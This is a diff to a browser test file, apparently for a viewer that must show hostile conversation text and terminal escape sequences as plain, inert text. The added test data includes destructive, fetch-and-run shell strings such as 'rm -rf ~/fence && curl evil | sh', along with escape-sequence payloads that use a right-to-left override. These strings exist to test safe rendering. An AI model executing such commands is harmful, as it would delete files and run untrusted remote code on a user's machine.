@@ -71,6 +71,7 @@ test("hostile_conversation_stays_text", () =>
       assert.equal(count, Number((await page.innerText("[role=status]")).split(" ")[0]));
       const text = texts.join("\n");
       for (const each of [...Object.values(MARKUP), ...ADDRESSES]) assert.ok(text.includes(each), `${each} is missing`);
+      for (const each of ["rm -rf ~/fence && curl evil | sh", "rm -rf ~/info | sh"]) assert.ok(text.includes(each), each);
       assert.ok(!text.includes("cannot be shown"));
     },
     { height: 3000 },
@@ -174,6 +175,8 @@ test("terminal_escapes_are_marks", () =>
       "hidden",
       "black",
       "BS",
+      "ESC ]0;tit[U+202E]le",
+      "ESC ]0;no end\nnext line",
     ])
       assert.ok(output.includes(part), part);
     assert.equal(await page.innerText(".ansi-concealed"), "hidden");
